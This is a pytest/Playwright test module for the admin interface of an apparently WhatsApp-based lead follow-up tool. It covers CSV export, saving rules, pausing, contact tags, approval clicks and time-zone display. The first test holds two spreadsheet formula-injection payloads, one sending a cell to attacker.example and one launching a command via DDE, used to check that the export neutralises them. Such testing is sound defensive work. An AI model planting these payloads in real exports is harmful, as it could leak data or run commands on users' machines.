"""What people type and click in the admin app is kept and said as it happened: a Stats CSV
hands no formula to the spreadsheet, a new journey saved with warnings saves again, pausing
keeps the settings being edited, a contact's details save over a colleague's tag without
removing it, a double-clicked Approve is not someone else's decision, and the preview's
send times name their zone."""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from followup_local.demo import AI_RULE
from tests.support.browser import Watched, sign_in, until
from tests.support.devstack import SAFETY_NET, AdminApi, Running, eventually, free_port


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    running = Running(tmp_path_factory.mktemp("edits") / "state", free_port(), contacts=4)
    yield running
    running.stop()


def test_the_stats_csv_does_not_hand_a_rule_name_to_the_spreadsheet_as_a_formula(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    # Given a rule whose name (typed by any marketing user) starts like a spreadsheet formula
    [first, *_] = stack.call("GET", "/api/rules").json()["rules"]
    body = stack.call("GET", f"/api/rules/{first['id']}").json()
    evil = '=HYPERLINK("http://attacker.example/?x="&A2,"Open")'
    hidden = "Promo;=cmd|' /C calc'!A0;"  # a formula where Excel splits on ";" (id, pt-BR)
    for rule_id, name in (("csv-formula", evil), ("csv-semicolon", hidden)):
        created = stack.call(
            "POST", "/api/rules", json={**body, "id": rule_id, "name": name, "active": False}
        )
        assert created.status_code == 201, created.text
    # When marketing downloads the Stats CSV
    page = sign_in(browser, pages, stack.url, "marketing", watched)
    page.goto(f"{stack.url}/#/stats")
    expect(page.locator('[data-testid="stats-row"][data-id="csv-formula"]')).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV", exact=True).click()
    saved = Path(download.value.path()).read_bytes()
    names = [row[0] for row in csv.reader(io.StringIO(saved.decode("utf-8-sig")))]
    # (marked UTF-8, so Excel shows accented names and headers as they are)
    assert saved.startswith(codecs.BOM_UTF8)
    # Then the names reach the spreadsheet as text, as typed, and no cell as a formula,
    # whether the spreadsheet splits the file on "," or on ";"
    assert f"'{evil}" in names
    assert hidden in names
    text = saved.decode("utf-8-sig")
    for separator in (",", ";"):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == [], separator


def test_a_new_journey_saved_with_warnings_can_be_changed_and_saved_again(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    # Given marketing building a new journey with a free-text message (a warning, not an error)
    page = sign_in(browser, pages, stack.url, "marketing", watched)
    page.goto(f"{stack.url}/#/rules/new")
    expect(page.locator(".editor")).to_be_visible()
    page.get_by_label("Id", exact=True).fill("warned-journey")
    page.get_by_label("Name", exact=True).fill("First name")
    page.get_by_label("Step 1 free text").fill("Halo {first_name}, ada yang bisa dibantu?")
    page.get_by_role("button", name="Save", exact=True).click()
    # And it is saved, the builder staying open with the warning, as designed
    expect(page.get_by_text("Saved, with warnings: see the steps.")).to_be_visible()
    assert stack.call("GET", "/api/rules/warned-journey").json()["name"] == "First name"
    # When marketing renames it and saves again
    page.get_by_label("Name", exact=True).fill("Second name")
    page.get_by_role("button", name="Save", exact=True).click()
    until(
        page,
        lambda: bool(
            stack.call("GET", "/api/rules/warned-journey").json()["version"] > 1
            or page.get_by_role("alert").count()
        ),
    )
    # Then the change is the rule's next version, and the page shows no error
    saved = stack.call("GET", "/api/rules/warned-journey").json()
    assert (saved["version"], saved["name"]) == (2, "Second name")
    assert page.get_by_role("alert").all_inner_texts() == []


def test_pausing_everything_keeps_the_admins_unsaved_settings_edits(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    # Given an admin who has typed a new value in the settings form, not saved yet
    page = sign_in(browser, pages, stack.url, "admin", watched)
    page.goto(f"{stack.url}/#/settings")
    tries = page.get_by_label("Tries of a failed send")
    expect(tries).to_have_value("10")
    tries.fill("7")
    # When they press "Pause everything" (the switch above the form)
    page.get_by_role("button", name="Pause everything").click()
    expect(page.get_by_role("button", name="Resume sending")).to_be_visible()
    try:
        # Then what they typed is still in the form
        expect(tries).to_have_value("7", timeout=3000)
        # And saving it saves it, sending still paused
        page.get_by_role("button", name="Save settings").click()
        expect(page.get_by_test_id("settings-saved")).to_be_visible()
        saved = stack.call("GET", "/api/settings").json()
        assert (saved["max_attempts"], saved["paused"]) == (7, True)
    finally:
        page.get_by_role("button", name="Resume sending").click()
        expect(page.get_by_role("button", name="Pause everything")).to_be_visible()


def test_saving_a_contacts_details_keeps_a_tag_a_colleague_added_meanwhile(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    # Given a lead, and a counsellor with the lead's page open
    lead = {
        "wa_id": "6281299990001",
        "name": "Dewi Tag",
        "stage": "new",
        "timezone": "Asia/Jakarta",
    }
    created = stack.call("POST", "/api/contacts", json=lead).json()
    page = sign_in(browser, pages, stack.url, "counselor", watched)
    page.goto(f"{stack.url}/#/contacts/{created['id']}")
    expect(page.get_by_test_id("contact-edit")).to_be_visible()
    # When a colleague (or a journey's action) tags the lead meanwhile
    added = stack.call("PATCH", f"/api/contacts/{created['id']}", json={"add_tags": ["vip"]})
    assert added.status_code == 200, added.text
    # And the counsellor closes the conversation (the page reads the contact again)
    page.get_by_role("button", name="Close conversation").click()
    expect(page.get_by_test_id("conversation-state")).to_contain_text("Conversation closed")
    # And then changes only the lead's score and saves the details
    page.get_by_label("Score", exact=True).select_option("cold")
    page.get_by_role("button", name="Save details").click()
    expect(page.get_by_text("Details saved.")).to_be_visible()
    # Then the colleague's tag is still on the lead
    saved = stack.call("GET", f"/api/contacts/{created['id']}").json()
    assert (saved["score"], saved["tags"]) == ("cold", ["vip"])


def test_approving_with_a_double_click_does_not_say_someone_else_decided(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    api = AdminApi(stack)
    body = api("GET", f"/api/rules/{AI_RULE}")
    [step] = body["steps"]
    held = step | {"ai": step["ai"] | {"approval": True}}
    api(
        "POST",
        "/api/rules",
        json={**body, "id": "approve-dbl", "name": "Approve dbl", "steps": [held]},
    )
    lead = {
        "wa_id": "6281177740977",
        "name": "Sari Dua",
        "stage": "new",
        "timezone": "Asia/Jakarta",
    }
    created = api("POST", "/api/contacts", json=lead)
    sent = api("POST", f"/api/contacts/{created['id']}/followups", json={"rule_id": "approve-dbl"})
    httpx.post(f"{stack.url}/dev/tick", timeout=SAFETY_NET).raise_for_status()
    eventually(lambda: api("GET", f"/api/followups/{sent['id']}")["reason"] == "awaiting_approval")
    # Given marketing with the proposed text in the queue
    page = sign_in(browser, pages, stack.url, "marketing", watched)
    page.goto(f"{stack.url}/#/queue")
    row = page.locator(f'[data-testid="followup-row"][data-id="{sent["id"]}"]')
    expect(row.get_by_test_id("proposed")).to_be_visible()
    # When they double-click "Approve", as many people click buttons
    row.get_by_role("button", name="Approve", exact=True).dblclick()
    eventually(lambda: api("GET", f"/api/followups/{sent['id']}")["approved_at"])
    page.wait_for_timeout(2000)
    # Then nobody tells them that someone else approved it first: they did
    assert row.get_by_test_id("approval-overtaken").all_inner_texts() == []


def test_the_preview_shows_each_send_time_in_the_leads_zone_and_names_it(
    stack: Running, browser: Browser, pages: list[Page], watched: Watched
) -> None:
    # Given a rule that would message the demo's leads
    rule = {
        "id": "preview-zone",
        "name": "Preview zone",
        "active": False,
        "send_anytime": True,
        "trigger": {"kind": "idle", "stages": ["new"], "idle": {"amount": 1, "unit": "minutes"}},
        "steps": [
            {
                "wait": {"amount": 0, "unit": "minutes"},
                "template": {
                    "name": "follow_up_later",
                    "language": "id",
                    "params": [{"text": "Kak"}],
                },
            }
        ],
    }
    assert stack.call("POST", "/api/templates/sync").status_code == 200
    assert stack.call("POST", "/api/rules", json=rule).status_code == 201
    [first, *_] = stack.call("POST", "/api/rules/preview", json=rule).json()["planned"]
    lead = stack.call("GET", f"/api/contacts/{first['contact_id']}").json()
    zone = lead["timezone"] or stack.call("GET", "/api/settings").json()["timezone"]
    # And a marketer whose laptop is set to São Paulo time
    page = watched.watch(browser.new_context(timezone_id="America/Sao_Paulo").new_page())
    pages.append(page)
    page.goto(stack.url)
    page.get_by_role("button", name="Sign in as marketing").click()
    page.goto(f"{stack.url}/#/rules/preview-zone")
    # When they preview the rule
    page.get_by_role("button", name="Preview", exact=True).click()
    # Then the lead's send time is on the lead's clock and says so (README: "a time always
    # names its zone")
    expect(page.get_by_test_id("preview").get_by_role("listitem").first).to_contain_text(
        f"{first['name'] or first['contact_id']}: "
    )
    # (a step that sends at once goes at the preview's "now": the page's preview, asked a
    # moment after the API's, may fall a minute or two later on the running clock)
    local = datetime.fromisoformat(first["send_at"]).astimezone(ZoneInfo(zone))
    minutes = "|".join(f"{local + timedelta(minutes=n):%H:%M}" for n in range(3))
    shown = re.compile(rf"(?:{minutes}) \({re.escape(zone)}\)")
    expect(page.get_by_test_id("preview")).to_contain_text(shown)
